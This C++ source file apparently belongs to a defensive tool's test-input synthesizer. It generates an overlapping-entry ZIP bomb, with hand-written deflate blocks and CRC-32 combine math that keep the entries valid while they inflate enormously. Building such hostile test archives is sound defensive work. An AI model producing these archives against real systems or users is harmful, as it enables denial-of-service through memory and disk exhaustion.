// SPDX-License-Identifier: Apache-2.0
// The overlapping-entry ZIP bomb (see hostile.h): deflate written by hand (stored blocks
// and one fixed-Huffman block), CRC-32 with its combine step for the shared kernel.
#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "sendguard/synth/hostile.h"

namespace sendguard::synth {

namespace {

constexpr uint32_t kCrcPoly = 0xEDB88320u;  // CRC-32 (ZIP), reflected

uint32_t Crc32(const std::string& bytes, uint32_t crc = 0) {
  static const std::vector<uint32_t> table = [] {
    std::vector<uint32_t> t(256);
    for (uint32_t n = 0; n < 256; ++n) {
      uint32_t c = n;
      for (int k = 0; k < 8; ++k) c = (c & 1) ? kCrcPoly ^ (c >> 1) : c >> 1;
      t[n] = c;
    }
    return t;
  }();
  crc = ~crc;
  for (unsigned char b : bytes) crc = table[(crc ^ b) & 0xFF] ^ (crc >> 8);
  return ~crc;
}

// a(x) * b(x) modulo the CRC polynomial (bit 31 is x^0).
uint32_t MultModP(uint32_t a, uint32_t b) {
  uint32_t product = 0;
  for (uint32_t m = 1u << 31; m != 0; m >>= 1) {
    if (a & m) product ^= b;
    b = (b & 1) ? (b >> 1) ^ kCrcPoly : b >> 1;
  }
  return product;
}

// x^(8 * n) modulo the polynomial: the operator that appends n zero bytes.
uint32_t XPow8n(uint64_t n) {
  uint32_t result = 1u << 31;  // x^0
  uint32_t square = 1u << 23;  // x^8
  for (; n != 0; n >>= 1) {
    if (n & 1) result = MultModP(square, result);
    square = MultModP(square, square);
  }
  return result;
}

// CRC-32 of A followed by B, from CRC(A), CRC(B) and B's length.
uint32_t Crc32Combine(uint32_t crc_a, uint32_t crc_b, uint64_t len_b) { return MultModP(XPow8n(len_b), crc_a) ^ crc_b; }

void Le16(std::string& s, uint32_t v) {
  s.push_back(static_cast<char>(v & 0xFF));
  s.push_back(static_cast<char>((v >> 8) & 0xFF));
}
void Le32(std::string& s, uint32_t v) {
  Le16(s, v & 0xFFFF);
  Le16(s, v >> 16);
}

// Deflate bits, least significant first; Huffman codes go most significant bit first.
class BitWriter {
 public:
  void Bits(uint32_t value, int n) {
    for (int i = 0; i < n; ++i) Bit((value >> i) & 1);
  }
  void Code(uint32_t code, int n) {
    for (int i = n - 1; i >= 0; --i) Bit((code >> i) & 1);
  }
  std::string Finish() {
    if (used_ > 0) out_.push_back(static_cast<char>(acc_));
    return out_;
  }

 private:
  void Bit(uint32_t b) {
    acc_ |= b << used_;
    if (++used_ == 8) {
      out_.push_back(static_cast<char>(acc_));
      acc_ = 0;
      used_ = 0;
    }
  }
  std::string out_;
  uint32_t acc_ = 0;
  int used_ = 0;
};

// One final fixed-Huffman block: the literal 'a', then copies of 258 bytes at distance 1.
// Returns the compressed bytes; *out_size is what they inflate to (1 + 258k >= want).
std::string Kernel(size_t want, size_t* out_size) {
  BitWriter w;
  w.Bits(1, 1);               // BFINAL
  w.Bits(1, 2);               // BTYPE 01: fixed Huffman
  w.Code(0x30 + 'a', 8);      // literal 'a' (0-143: 8 bits from 00110000)
  size_t copies = want > 1 ? (want - 1 + 257) / 258 : 0;
  for (size_t i = 0; i < copies; ++i) {
    w.Code(0xC0 + (285 - 280), 8);  // length 258 (code 285, no extra bits)
    w.Code(0, 5);                   // distance 1 (code 0)
  }
  w.Code(0, 7);  // end of block (256)
  *out_size = 1 + 258 * copies;
  return w.Finish();
}

// A stored (uncompressed) non-final deflate block's 5-byte header for `len` bytes.
std::string StoredHeader(size_t len) {
  std::string h(1, '\0');  // BFINAL 0, BTYPE 00, padded to the byte
  Le16(h, static_cast<uint32_t>(len));
  Le16(h, static_cast<uint32_t>(~len & 0xFFFF));
  return h;
}

struct Entry {
  std::string name;
  uint32_t crc = 0;
  uint64_t compressed = 0, size = 0;
  uint32_t offset = 0;
  std::string local_header;
};

std::string LocalHeader(const Entry& e, uint16_t flags) {
  std::string h;
  Le32(h, 0x04034b50);
  Le16(h, 20);  // version needed
  Le16(h, flags);
  Le16(h, 8);   // deflate
  Le16(h, 0);   // time
  Le16(h, 0x21);  // date 1980-01-01
  Le32(h, e.crc);
  Le32(h, static_cast<uint32_t>(e.compressed));
  Le32(h, static_cast<uint32_t>(e.size));
  Le16(h, static_cast<uint32_t>(e.name.size()));
  Le16(h, 0);
  return h + e.name;
}

}  // namespace

std::string OverlappingDeflateZip(int entries, size_t kernel_bytes, uint16_t first_local_flags) {
  size_t kernel_out = 0;
  const std::string kernel = Kernel(kernel_bytes, &kernel_out);
  const uint32_t kernel_crc = Crc32(std::string(kernel_out, 'a'));
  std::vector<Entry> list(static_cast<size_t>(entries));
  for (int i = 0; i < entries; ++i) {
    char name[16];
    std::snprintf(name, sizeof name, "%04d.txt", i);
    list[static_cast<size_t>(i)].name = name;
  }
  // Last entry first: each entry's data is the next entry's local header, quoted, then the
  // next entry's data, so its CRC and sizes follow from the next entry's.
  for (int i = entries - 1; i >= 0; --i) {
    Entry& e = list[static_cast<size_t>(i)];
    if (i == entries - 1) {
      e.crc = kernel_crc;
      e.size = kernel_out;
      e.compressed = kernel.size();
    } else {
      const Entry& next = list[static_cast<size_t>(i) + 1];
      e.crc = Crc32Combine(Crc32(next.local_header), next.crc, next.size);
      e.size = next.local_header.size() + next.size;
      e.compressed = 5 + next.local_header.size() + next.compressed;
    }
    e.local_header = LocalHeader(e, i == 0 ? first_local_flags : 0);  // the first is quoted by no one
  }
  std::string zip;
  for (int i = 0; i < entries; ++i) {
    Entry& e = list[static_cast<size_t>(i)];
    e.offset = static_cast<uint32_t>(zip.size());
    zip += e.local_header;
    if (i + 1 < entries) zip += StoredHeader(list[static_cast<size_t>(i) + 1].local_header.size());
  }
  zip += kernel;
  const size_t cd_start = zip.size();
  for (const Entry& e : list) {
    Le32(zip, 0x02014b50);
    Le16(zip, 20);  // made by
    Le16(zip, 20);  // needed
    Le16(zip, 0);
    Le16(zip, 8);
    Le16(zip, 0);
    Le16(zip, 0x21);
    Le32(zip, e.crc);
    Le32(zip, static_cast<uint32_t>(e.compressed));
    Le32(zip, static_cast<uint32_t>(e.size));
    Le16(zip, static_cast<uint32_t>(e.name.size()));
    Le16(zip, 0);  // extra
    Le16(zip, 0);  // comment
    Le16(zip, 0);  // disk
    Le16(zip, 0);  // internal attributes
    Le32(zip, 0);  // external attributes
    Le32(zip, e.offset);
    zip += e.name;
  }
  const size_t cd_size = zip.size() - cd_start;
  Le32(zip, 0x06054b50);
  Le16(zip, 0);
  Le16(zip, 0);
  Le16(zip, static_cast<uint32_t>(entries));
  Le16(zip, static_cast<uint32_t>(entries));
  Le32(zip, static_cast<uint32_t>(cd_size));
  Le32(zip, static_cast<uint32_t>(cd_start));
  Le16(zip, 0);
  return zip;
}

}  // namespace sendguard::synth
